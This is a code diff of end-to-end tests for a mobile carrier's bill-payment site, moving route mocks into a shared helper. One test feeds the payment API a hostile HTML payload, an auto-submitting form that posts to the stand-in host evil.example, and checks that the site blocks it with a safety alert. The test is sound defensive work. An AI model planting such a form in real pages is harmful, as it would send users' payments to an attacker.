@@ -2,7 +2,7 @@ import { UNKNOWN_NUMBER } from '../../mock-server/personas.ts';
 import { EXAMPLE_PID } from '../../mock-server/seed/payments.ts';
 import { brand } from '../../src/brand/brand.ts';
 import { paths } from '../../src/lib/paths.ts';
-import { posted } from '../support/calls.ts';
+import { answer, posted } from '../support/calls.ts';
 import { ALWAYS, AREA, inTurn } from '../support/full.ts';
 import { oneBill, postpaid, prepaid } from '../support/log-in.ts';
 import { paymentOf } from '../support/payments.ts';
@@ -85,9 +85,7 @@ for (const language of inTurn('en')) {
         const pay = paymentOf(page, language);
         // Not the path that the site would take by itself.
         const resultUrl = '/account/paymentMethod/3?from=lookup';
-        await page.route('**/api/care/checkmybill?*', (route) =>
-          route.fulfill({ json: { status: '0', data: { account: '31415926', balance: '7.00', resultUrl } } }),
-        );
+        await answer(page, '/api/care/checkmybill', { account: '31415926', balance: '7.00', resultUrl });
         const go = async (amount: string, outcome: string) => {
           await page.goto(paths.home);
           await pay.open(postpaid.mobileNo);
@@ -349,16 +347,9 @@ test.describe('express payment', () => {
     await pay.open(postpaid.mobileNo);
     await pay.amount.fill('120');
     await pay.method('alipay').check();
-    await page.route('**/api/macaupay/pay?*', (route) =>
-      route.fulfill({
-        json: {
-          status: '0',
-          data: {
-            html: '<form method="post" action="https://evil.example/pay"><input type="hidden" name="a" value="b"></form><script>document.forms[0].submit()</script>',
-          },
-        },
-      }),
-    );
+    const html =
+      '<form method="post" action="https://evil.example/pay"><input type="hidden" name="a" value="b"></form><script>document.forms[0].submit()</script>';
+    await answer(page, '/api/macaupay/pay', { html });
     await pay.next.click();
     await expect(page.getByRole('alert').filter({ hasText: fill(t.notSafe, { hotline: brand.hotline }) })).toBeVisible();
     expect(new URL(page.url()).pathname).toBe(paths.payment);
